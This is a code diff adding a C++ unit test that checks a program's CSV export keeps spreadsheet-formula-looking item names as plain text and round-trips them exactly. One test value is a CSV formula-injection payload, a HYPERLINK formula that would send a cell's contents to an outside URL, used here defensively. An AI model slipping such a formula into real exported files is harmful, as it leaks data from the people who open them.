@@ -3,6 +3,7 @@
 #include "reports/UntComparisonReport.h"
 #include "reports/UntConvert.h"
 #include "reports/UntReportExport.h"
+#include "storage/UntCsv.h"
 #include "storage/UntDataModule.h"
 #include "storage/UntIO.h"
 #include "storage/UntProgramFolder.h"
@@ -506,4 +507,38 @@ TEST(OfficeConversion, WideTablesAreWrittenWhole) {
         EXPECT_TRUE(text.contains("Opportunity 1100")) << c.name;
         EXPECT_TRUE(text.contains("Opportunity 1")) << c.name;
     }
+}
+
+// Names a spreadsheet would take for formulas leave Merovan's CSV as text:
+// opened in the suite, each is a cell of text, not a live formula or link;
+// saved as CSV again by the suite and read back, each is the name it was.
+TEST(OfficeConversion, CsvCellsStayTextInTheSuiteAndComeBackExact) {
+    QTemporaryDir folder;
+    const auto project = Bakery();
+    const QStringList names = {R"(=HYPERLINK("http://example.com/?leak="&A1;"click"))",
+                               "+33 1 23 45 67 89",
+                               "-minus, with a comma",
+                               "@SUM(1;2)",
+                               "'=already quoted",
+                               "'an apostrophe first"};
+    for (qsizetype i = 0; i < names.size(); ++i)
+        project->Items[static_cast<std::size_t>(i)]->Name = names[i];
+    const QString csv = folder.filePath("factors.csv");
+    WriteFileAtomically(csv, FactorsCsv(*project));
+
+    const QString sheet = folder.filePath("factors.ods");
+    ConvertDocument(csv, sheet, "calc8");
+    const QString content = QString::fromUtf8(ZipEntry(sheet, "content.xml"));
+    EXPECT_FALSE(content.contains("table:formula")) << "a name became a formula";
+    EXPECT_TRUE(content.contains("&apos;=HYPERLINK(&quot;http://example.com/"));
+
+    const QString again = folder.filePath("again.csv");
+    ConvertDocument(sheet, again, "Text - txt - csv (StarCalc)");
+    QFile saved(again);
+    ASSERT_TRUE(saved.open(QIODevice::ReadOnly));
+    const auto factors = ReadFactorsCsv(saved.readAll());
+    ASSERT_EQ(factors.size(), project->Items.size());
+    for (std::size_t i = 0; i < factors.size(); ++i)
+        EXPECT_EQ(factors[i]->Name.toStdString(), project->Items[i]->Name.toStdString())
+            << "row " << i + 2;
 }
